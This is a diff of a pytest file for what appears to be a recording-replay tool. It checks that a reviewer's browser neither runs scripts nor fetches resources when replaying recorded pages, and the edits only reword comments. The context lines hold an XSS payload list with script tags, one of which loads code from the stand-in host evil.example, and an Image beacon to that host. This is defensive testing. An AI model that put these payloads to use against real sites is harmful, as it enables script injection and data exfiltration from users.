@@ -16,7 +16,7 @@ EVIL = "https://evil.example"
 PATIENCE = 300  # tenths of a second for a hundred frames on a busy machine
 RUN = f"document.title='run';new Image().src='{EVIL}/ran'"
 
-# Ways to run a script or to fetch something, as tag, attributes and text.
+# Ways to run a script or to fetch something: tag, attributes and text.
 PAYLOADS = [
     ("script", {}, RUN),
     ("script", {"src": f"{EVIL}/a.js"}, ""),
@@ -74,7 +74,7 @@ PAYLOADS = [
 
 
 def recording():
-    """Return a recording that has every payload, in a whole page and in a page of its own."""
+    """Return a recording that has every payload twice: in a common page, and in its own page."""
     page = Page()
     events = []
     for payloads in [PAYLOADS, *([payload] for payload in PAYLOADS)]:
@@ -88,7 +88,7 @@ def recording():
 
 @pytest.fixture
 def reviewer(browser):
-    """Return a page of a reviewer's browser; ``asked`` gathers what it tries to fetch."""
+    """Return a page in a reviewer's browser; ``asked`` gathers what it tries to fetch."""
     page = browser.new_page(viewport={"width": 1400, "height": 1000})
     page.asked = []
     page.by = []
@@ -106,7 +106,7 @@ def reviewer(browser):
 
 
 def loaded(reviewer, page):
-    """Return what a page asked for until half a second after the last of its frames was there."""
+    """Return what a page asked for until half a second after its last frame was loaded."""
     reviewer.set_content(page, wait_until="load")
     for _ in range(PATIENCE):
         if all(frame.url for frame in reviewer.main_frame.child_frames):
